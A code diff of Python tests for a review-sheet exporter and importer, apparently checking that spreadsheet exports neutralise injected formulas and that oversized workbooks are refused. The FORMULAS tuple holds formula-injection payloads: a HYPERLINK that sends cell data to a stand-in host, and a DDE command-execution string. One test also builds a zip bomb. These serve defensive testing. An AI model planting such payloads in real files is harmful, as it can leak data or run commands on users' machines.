@@ -16,18 +16,26 @@ from openpyxl import load_workbook
 from plankg.cli import main
 from plankg.review import COLUMNS, ReviewError, import_review_sheet, link_statuses, reviews
 
-from .test_review import T0, linked, read_csv, store  # noqa: F401  (fixtures)
+from . import test_review
+from .test_review import T0, read_csv
 
-FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A2,"click")', "+cmd|' /C calc'!A0",
-            "@SUM(A1:A9)", "-2+3")
+linked, store = test_review.linked, test_review.store  # the linked store and its private copies
+
+FORMULAS = (
+    '=HYPERLINK("http://example.invalid/?"&A2,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "-2+3",
+)
 
 
 def _export(store_path: Path, out: Path) -> None:
     assert main(["review", "export", "-o", str(out), "--store", str(store_path)]) == 0
 
 
-def test_workbook_has_header_drop_down_wrapping_and_the_csv_rows(store: ox.Store,
-                                                                 tmp_path: Path) -> None:
+def test_workbook_has_header_drop_down_wrapping_and_the_csv_rows(
+    store: ox.Store, tmp_path: Path
+) -> None:
     from plankg.review import export_review_sheet
 
     xlsx, csv_path = tmp_path / "sheet.xlsx", tmp_path / "sheet.csv"
@@ -99,7 +107,7 @@ def test_bad_workbooks_are_refused_with_the_file_named(store: ox.Store, tmp_path
     with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("xl/worksheets/sheet1.xml", b"\0" * (201 * 1024 * 1024))
     assert bomb.stat().st_size < 2_000_000
-    with pytest.raises(ReviewError, match="declares .* bytes unpacked"):
+    with pytest.raises(ReviewError, match=r"declares .* bytes unpacked"):
         import_review_sheet(store, bomb)
 
 
@@ -112,10 +120,21 @@ def test_libreoffice_opens_the_workbook(store: ox.Store, tmp_path: Path) -> None
     assert soffice, "this test needs LibreOffice: apt-get install libreoffice-writer-nogui"
     path = tmp_path / "sheet.xlsx"
     n = export_review_sheet(store, path, "xlsx")
-    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
-                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
-                    str(tmp_path / "out"), str(path)], check=True, capture_output=True,
-                   timeout=180)
+    subprocess.run(
+        [
+            soffice,
+            "--headless",
+            f"-env:UserInstallation=file://{tmp_path}/lo",
+            "--convert-to",
+            "csv:Text - txt - csv (StarCalc):44,34,76",
+            "--outdir",
+            str(tmp_path / "out"),
+            str(path),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
+    )
     rows = read_csv(tmp_path / "out" / "sheet.csv")
     assert len(rows) == n
     assert rows[0]["link"].startswith("https://w3id.org/plankg/link/")
